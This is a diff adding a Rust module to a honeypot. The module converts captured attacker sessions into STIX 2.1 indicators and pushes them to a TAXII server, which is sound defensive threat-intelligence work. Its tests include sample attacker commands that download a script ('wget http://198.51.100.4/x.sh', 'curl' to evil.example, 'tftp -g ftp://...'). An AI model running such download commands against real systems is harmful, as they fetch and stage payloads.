@@ -0,0 +1,565 @@
+//! STIX 2.1 indicators of the stored sessions.
+//!
+//! [`Indicators`] gathers what the sessions reveal about their attackers, so that
+//! threat intelligence platforms ingest it without glue:
+//! - the IP address of each client, as `ipv4-addr` or `ipv6-addr`
+//! - the SHA-256 of the files uploaded by the clients or carved from the streams
+//! - the `http`, `https`, `ftp` and `tftp` URLs found in the commands entered
+//!
+//! [`Indicators::to_bundle`] renders them as a STIX bundle of `indicator` objects
+//! created by an `identity` naming the sensor. Ids are derived from the patterns,
+//! an indicator seen again keeping its id, and `x_miel_sessions` lists the
+//! sessions it was seen in.
+//!
+//! When a `taxii_url` is configured, [`spawn_taxii_push`] POSTs the bundle of each
+//! ended session to a TAXII 2.1 collection.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::{Arc, OnceLock};
+use std::time::Duration;
+
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine;
+use chrono::{DateTime, SecondsFormat, Utc};
+use log::{debug, error, info, warn};
+use regex::Regex;
+use serde_json::{json, Value};
+use sha1::{Digest, Sha1};
+use tokio::sync::broadcast::error::RecvError;
+use uuid::{Builder, Uuid};
+
+use crate::configuration::types::StixConfig;
+use crate::data_capture::CaptureArtifacts;
+use crate::http_client::HttpEndpoint;
+use crate::lifecycle::{LifecycleSender, SessionLifecycle};
+use crate::session::Session;
+use crate::storage::storage_trait::Storage;
+use crate::storage::types::ExecutedCommand;
+
+/// Media type of the TAXII 2.1 requests and responses
+pub const TAXII_MEDIA_TYPE: &str = "application/taxii+json;version=2.1";
+
+/// Attempts to push a bundle before it is dropped
+const MAX_ATTEMPTS: u32 = 3;
+
+/// Delay before the first retry, doubled after each failure
+const RETRY_DELAY: Duration = Duration::from_secs(2);
+
+/// Largest response of the TAXII server read, its status resource being small
+const MAX_RESPONSE_LEN: usize = 64 * 1024;
+
+/// Namespace of the ids derived from the patterns and identity names
+const ID_NAMESPACE: &[u8] = b"miel-stix";
+
+/// What an indicator points at
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum IndicatorKind {
+    /// IP address of a client
+    Ip,
+    /// Hex encoded SHA-256 of a file
+    FileSha256,
+    /// URL found in a command
+    Url,
+}
+
+/// Sessions an indicator was seen in, and when
+#[derive(Debug, Clone, PartialEq)]
+struct Sighting {
+    first_seen: DateTime<Utc>,
+    last_seen: DateTime<Utc>,
+    sessions: BTreeSet<Uuid>,
+    services: BTreeSet<String>,
+    /// Names of the files with this hash
+    names: BTreeSet<String>,
+}
+
+/// Indicators of a set of sessions, see the [module documentation](self)
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Indicators {
+    seen: BTreeMap<(IndicatorKind, String), Sighting>,
+}
+
+impl Indicators {
+    /// Adds the indicators of `session`, those of its files when it has `artifacts`
+    pub fn add_session(
+        &mut self,
+        session: &Session,
+        artifacts: Option<&CaptureArtifacts>,
+        commands: &[ExecutedCommand],
+    ) {
+        let seen_at = session.end_time.unwrap_or(session.start_time);
+        self.add(
+            IndicatorKind::Ip,
+            session.client_addr.ip().to_string(),
+            None,
+            session,
+            session.start_time,
+        );
+
+        if let Some(artifacts) = artifacts {
+            let uploaded = artifacts
+                .uploaded_files
+                .iter()
+                .map(|file| (&file.sha256, &file.name));
+            let carved = artifacts
+                .carved_files
+                .iter()
+                .map(|file| (&file.sha256, &file.name));
+            for (sha256, name) in uploaded.chain(carved) {
+                self.add(
+                    IndicatorKind::FileSha256,
+                    sha256.to_lowercase(),
+                    Some(name),
+                    session,
+                    seen_at,
+                );
+            }
+        }
+
+        for command in commands {
+            for url in urls(&command.command) {
+                self.add(IndicatorKind::Url, url, None, session, command.timestamp);
+            }
+        }
+    }
+
+    /// Number of distinct indicators
+    pub fn len(&self) -> usize {
+        self.seen.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.seen.is_empty()
+    }
+
+    /// Kinds and values of the indicators, sorted
+    pub fn values(&self) -> impl Iterator<Item = (IndicatorKind, &str)> {
+        self.seen
+            .keys()
+            .map(|(kind, value)| (*kind, value.as_str()))
+    }
+
+    /// STIX 2.1 bundle of the indicators, created by the identity named `identity`
+    pub fn to_bundle(&self, identity: &str, now: DateTime<Utc>) -> Value {
+        let identity_id = format!("identity--{}", derived_id(identity));
+        let mut objects = vec![json!({
+            "type": "identity",
+            "spec_version": "2.1",
+            "id": identity_id,
+            "created": timestamp(now),
+            "modified": timestamp(now),
+            "name": identity,
+            "identity_class": "system",
+        })];
+
+        for ((kind, value), sighting) in &self.seen {
+            let pattern = pattern(*kind, value);
+            let (name, seen) = match kind {
+                IndicatorKind::Ip => (format!("Attacker IP {}", value), "Client"),
+                IndicatorKind::FileSha256 => (format!("File {}", value), "File"),
+                IndicatorKind::Url => (format!("URL {}", value), "URL"),
+            };
+            let services = sighting
+                .services
+                .iter()
+                .map(String::as_str)
+                .collect::<Vec<_>>()
+                .join(", ");
+            let mut description = format!(
+                "{} seen in {} honeypot session(s) of {}",
+                seen,
+                sighting.sessions.len(),
+                services
+            );
+            if !sighting.names.is_empty() {
+                let names = sighting
+                    .names
+                    .iter()
+                    .map(String::as_str)
+                    .collect::<Vec<_>>()
+                    .join(", ");
+                description.push_str(&format!(", named {}", names));
+            }
+
+            objects.push(json!({
+                "type": "indicator",
+                "spec_version": "2.1",
+                "id": format!("indicator--{}", derived_id(&pattern)),
+                "created_by_ref": identity_id,
+                "created": timestamp(sighting.first_seen),
+                "modified": timestamp(sighting.last_seen),
+                "name": name,
+                "description": description,
+                "indicator_types": ["malicious-activity"],
+                "pattern": pattern,
+                "pattern_type": "stix",
+                "pattern_version": "2.1",
+                "valid_from": timestamp(sighting.first_seen),
+                "labels": ["honeypot"],
+                "x_miel_sessions": sighting.sessions,
+            }));
+        }
+
+        json!({
+            "type": "bundle",
+            "id": format!("bundle--{}", Uuid::new_v4()),
+            "objects": objects,
+        })
+    }
+
+    fn add(
+        &mut self,
+        kind: IndicatorKind,
+        value: String,
+        name: Option<&str>,
+        session: &Session,
+        at: DateTime<Utc>,
+    ) {
+        let sighting = self.seen.entry((kind, value)).or_insert_with(|| Sighting {
+            first_seen: at,
+            last_seen: at,
+            sessions: BTreeSet::new(),
+            services: BTreeSet::new(),
+            names: BTreeSet::new(),
+        });
+        sighting.first_seen = sighting.first_seen.min(at);
+        sighting.last_seen = sighting.last_seen.max(at);
+        sighting.sessions.insert(session.id);
+        sighting.services.insert(session.service_name.clone());
+        if let Some(name) = name.filter(|name| !name.is_empty()) {
+            sighting.names.insert(name.to_string());
+        }
+    }
+}
+
+/// STIX pattern matching the indicator
+fn pattern(kind: IndicatorKind, value: &str) -> String {
+    // Quotes and backslashes are the only characters escaped in STIX strings
+    let value = value.replace('\\', "\\\\").replace('\'', "\\'");
+    match kind {
+        IndicatorKind::Ip if value.contains(':') => format!("[ipv6-addr:value = '{}']", value),
+        IndicatorKind::Ip => format!("[ipv4-addr:value = '{}']", value),
+        IndicatorKind::FileSha256 => format!("[file:hashes.'SHA-256' = '{}']", value),
+        IndicatorKind::Url => format!("[url:value = '{}']", value),
+    }
+}
+
+/// Name-based (version 5) UUID of `name`, stable across bundles
+fn derived_id(name: &str) -> Uuid {
+    let digest = Sha1::new()
+        .chain_update(ID_NAMESPACE)
+        .chain_update(name.as_bytes())
+        .finalize();
+    let mut bytes = [0u8; 16];
+    bytes.copy_from_slice(&digest[..16]);
+    Builder::from_sha1_bytes(bytes).into_uuid()
+}
+
+/// Timestamps as STIX wants them, UTC with milliseconds
+fn timestamp(at: DateTime<Utc>) -> String {
+    at.to_rfc3339_opts(SecondsFormat::Millis, true)
+}
+
+/// URLs of `command`, without the punctuation ending a sentence
+fn urls(command: &str) -> Vec<String> {
+    static URL: OnceLock<Regex> = OnceLock::new();
+    let url = URL.get_or_init(|| {
+        Regex::new(r#"(?i)\b(?:https?|ftp|tftp)://[^\s'"`<>|;&()]+"#).expect("valid URL regex")
+    });
+    url.find_iter(command)
+        .map(|m| m.as_str().trim_end_matches(['.', ',']).to_string())
+        .collect()
+}
+
+/// Pushes the indicators of the ended sessions to the TAXII collection of
+/// `config`; does nothing when no `taxii_url` is configured.
+///
+/// The session, its artifacts and commands are read back from `storage` once its
+/// `session_ended` lifecycle event is received. A bundle is retried a few times
+/// before it is dropped, failures being only logged.
+///
+/// # Errors
+/// Returns the error of [`HttpEndpoint::parse`] when `taxii_url` is invalid.
+pub fn spawn_taxii_push(
+    config: &StixConfig,
+    storage: Arc<dyn Storage + Send + Sync>,
+    lifecycle: &LifecycleSender,
+) -> std::io::Result<()> {
+    let Some(url) = &config.taxii_url else {
+        return Ok(());
+    };
+    let collection = HttpEndpoint::parse(url)?;
+    let authorization = match (&config.token, &config.username) {
+        (Some(token), _) => Some(format!("Bearer {}", token)),
+        (None, Some(username)) => Some(format!(
+            "Basic {}",
+            STANDARD.encode(format!(
+                "{}:{}",
+                username,
+                config.password.as_deref().unwrap_or("")
+            ))
+        )),
+        (None, None) => None,
+    };
+    info!(
+        "Pushing the session indicators to the TAXII collection at {}",
+        url
+    );
+
+    let identity = config.identity.clone();
+    let mut events = lifecycle.subscribe();
+    tokio::spawn(async move {
+        loop {
+            let session = match events.recv().await {
+                Ok(SessionLifecycle::SessionEnded { session }) => session,
+                Ok(_) => continue,
+                Err(RecvError::Lagged(missed)) => {
+                    warn!("TAXII push fell behind, {} session event(s) missed", missed);
+                    continue;
+                }
+                Err(RecvError::Closed) => break,
+            };
+
+            let artifacts = storage.get_capture_artifacts(session.id).await.ok();
+            let commands = storage.get_commands(session.id).await.unwrap_or_default();
+            let mut indicators = Indicators::default();
+            indicators.add_session(&session, artifacts.as_ref(), &commands);
+            let bundle = indicators.to_bundle(&identity, Utc::now());
+            push(&collection, authorization.as_deref(), &bundle, session.id).await;
+        }
+        debug!("TAXII push stopped");
+    });
+    Ok(())
+}
+
+/// POSTs `bundle` to the objects endpoint of the collection, retrying on failure
+async fn push(
+    collection: &HttpEndpoint,
+    authorization: Option<&str>,
+    bundle: &Value,
+    session_id: Uuid,
+) {
+    let body = bundle.to_string();
+    let mut headers = vec![
+        ("Content-Type", TAXII_MEDIA_TYPE),
+        ("Accept", TAXII_MEDIA_TYPE),
+    ];
+    if let Some(authorization) = authorization {
+        headers.push(("Authorization", authorization));
+    }
+
+    let mut delay = RETRY_DELAY;
+    for attempt in 1..=MAX_ATTEMPTS {
+        let result = collection
+            .send(
+                "POST",
+                collection.path(),
+                &headers,
+                body.as_bytes(),
+                MAX_RESPONSE_LEN,
+            )
+            .await;
+        match result {
+            Ok((status, _)) if (200..300).contains(&status) => {
+                debug!("Pushed the indicators of session {} to TAXII", session_id);
+                return;
+            }
+            Ok((status, _)) if attempt == MAX_ATTEMPTS => error!(
+                "Dropping the indicators of session {}, TAXII answered {}",
+                session_id, status
+            ),
+            Err(e) if attempt == MAX_ATTEMPTS => error!(
+                "Dropping the indicators of session {} after {} attempts to push them: {}",
+                session_id, MAX_ATTEMPTS, e
+            ),
+            Ok((status, _)) => {
+                warn!("TAXII answered {}, retrying in {:?}", status, delay);
+                tokio::time::sleep(delay).await;
+                delay *= 2;
+            }
+            Err(e) => {
+                warn!("TAXII server unreachable, retrying in {:?}: {}", delay, e);
+                tokio::time::sleep(delay).await;
+                delay *= 2;
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::data_capture::UploadedFile;
+    use crate::session_management::SessionStatus;
+    use crate::storage::memory_storage::MemoryStorage;
+    use chrono::TimeDelta;
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    use tokio::net::TcpListener;
+
+    fn session(client: &str, start: DateTime<Utc>) -> Session {
+        Session {
+            id: Uuid::new_v4(),
+            service_name: "ssh".to_string(),
+            client_addr: client.parse().unwrap(),
+            start_time: start,
+            end_time: Some(start + TimeDelta::seconds(30)),
+            container_id: None,
+            bytes_transferred: 0,
+            status: SessionStatus::Completed,
+            enrichment: None,
+            original_dst: None,
+        }
+    }
+
+    fn command(session: &Session, command: &str) -> ExecutedCommand {
+        ExecutedCommand {
+            session_id: session.id,
+            timestamp: session.start_time + TimeDelta::seconds(5),
+            source: "SSH".to_string(),
+            command: command.to_string(),
+            stdout_lines: 0,
+            stderr_lines: 0,
+            exit_hint: None,
+        }
+    }
+
+    #[test]
+    fn sessions_are_rendered_as_stix_indicators() {
+        let start = "2025-03-01T10:00:00Z".parse::<DateTime<Utc>>().unwrap();
+        let first = session("203.0.113.7:50022", start);
+        let second = session("203.0.113.7:50023", start + TimeDelta::hours(1));
+        let other = session("[2001:db8::1]:40000", start);
+        let artifacts = CaptureArtifacts {
+            session_id: first.id,
+            duration: TimeDelta::seconds(30),
+            uploaded_files: vec![UploadedFile {
+                name: "bot.sh".to_string(),
+                sha256: "AB".repeat(32),
+                md5: String::new(),
+                sha1: String::new(),
+                content: Vec::new(),
+                truncated: false,
+                virustotal: None,
+            }],
+            ..Default::default()
+        };
+
+        let mut indicators = Indicators::default();
+        indicators.add_session(
+            &first,
+            Some(&artifacts),
+            &[command(
+                &first,
+                "cd /tmp; wget http://198.51.100.4/x.sh; curl -s 'https://evil.example/a?b=1'",
+            )],
+        );
+        indicators.add_session(&second, None, &[command(&second, "uname -a")]);
+        indicators.add_session(&other, None, &[]);
+        assert_eq!(
+            indicators.values().collect::<Vec<_>>(),
+            [
+                (IndicatorKind::Ip, "2001:db8::1"),
+                (IndicatorKind::Ip, "203.0.113.7"),
+                (IndicatorKind::FileSha256, "ab".repeat(32).as_str()),
+                (IndicatorKind::Url, "http://198.51.100.4/x.sh"),
+                (IndicatorKind::Url, "https://evil.example/a?b=1"),
+            ]
+        );
+
+        let bundle = indicators.to_bundle("sensor-1", start + TimeDelta::days(1));
+        assert_eq!(bundle["type"], "bundle");
+        let objects = bundle["objects"].as_array().unwrap();
+        assert_eq!(objects.len(), 6);
+        assert_eq!(objects[0]["type"], "identity");
+        assert_eq!(objects[0]["name"], "sensor-1");
+        assert!(objects[1..]
+            .iter()
+            .all(|o| o["created_by_ref"] == objects[0]["id"]));
+
+        assert_eq!(objects[1]["pattern"], "[ipv6-addr:value = '2001:db8::1']");
+        let ip = &objects[2];
+        assert_eq!(ip["pattern"], "[ipv4-addr:value = '203.0.113.7']");
+        assert_eq!(ip["valid_from"], "2025-03-01T10:00:00.000Z");
+        assert_eq!(ip["modified"], "2025-03-01T11:00:00.000Z");
+        assert_eq!(ip["x_miel_sessions"].as_array().unwrap().len(), 2);
+        assert_eq!(
+            objects[3]["pattern"],
+            format!("[file:hashes.'SHA-256' = '{}']", "ab".repeat(32))
+        );
+        assert!(objects[3]["description"]
+            .as_str()
+            .unwrap()
+            .ends_with("named bot.sh"));
+
+        // Ids follow the patterns, not the bundle
+        let again = indicators.to_bundle("sensor-1", Utc::now());
+        assert_eq!(again["objects"][2]["id"], ip["id"]);
+        assert_ne!(again["id"], bundle["id"]);
+    }
+
+    #[test]
+    fn patterns_escape_quotes() {
+        assert_eq!(
+            pattern(IndicatorKind::Url, r"http://x/a'b\c"),
+            r"[url:value = 'http://x/a\'b\\c']"
+        );
+        assert_eq!(
+            urls("tftp -g ftp://10.0.0.1/bins."),
+            ["ftp://10.0.0.1/bins"]
+        );
+    }
+
+    #[tokio::test]
+    async fn ended_sessions_are_pushed_to_taxii() {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!(
+            "http://{}/api1/collections/c0/objects/",
+            listener.local_addr().unwrap()
+        );
+        let server = tokio::spawn(async move {
+            let (mut stream, _) = listener.accept().await.unwrap();
+            let mut request = Vec::new();
+            let mut buf = [0u8; 4096];
+            while !request.ends_with(b"}") {
+                let n = stream.read(&mut buf).await.unwrap();
+                request.extend_from_slice(&buf[..n]);
+            }
+            stream
+                .write_all(b"HTTP/1.1 202 Accepted\r\nContent-Length: 2\r\n\r\n{}")
+                .await
+                .unwrap();
+            String::from_utf8(request).unwrap()
+        });
+
+        let config = StixConfig {
+            taxii_url: Some(url),
+            username: Some("miel".to_string()),
+            password: Some("s3cret".to_string()),
+            ..StixConfig::default()
+        };
+        let storage = Arc::new(MemoryStorage::new());
+        let lifecycle = crate::lifecycle::channel();
+        spawn_taxii_push(&config, storage, &lifecycle).unwrap();
+        let session = session("198.51.100.9:4444", Utc::now());
+        lifecycle
+            .send(SessionLifecycle::SessionEnded {
+                session: session.clone(),
+            })
+            .unwrap();
+
+        let request = server.await.unwrap();
+        assert!(request.starts_with("POST /api1/collections/c0/objects/ HTTP/1.1\r\n"));
+        assert!(request.contains(&format!("\r\nContent-Type: {}\r\n", TAXII_MEDIA_TYPE)));
+        assert!(request.contains("\r\nAuthorization: Basic bWllbDpzM2NyZXQ=\r\n"));
+        let body = &request[request.find("\r\n\r\n").unwrap() + 4..];
+        let bundle: Value = serde_json::from_str(body).unwrap();
+        assert_eq!(
+            bundle["objects"][1]["pattern"],
+            "[ipv4-addr:value = '198.51.100.9']"
+        );
+        assert_eq!(
+            bundle["objects"][1]["x_miel_sessions"][0],
+            session.id.to_string()
+        );
+    }
+}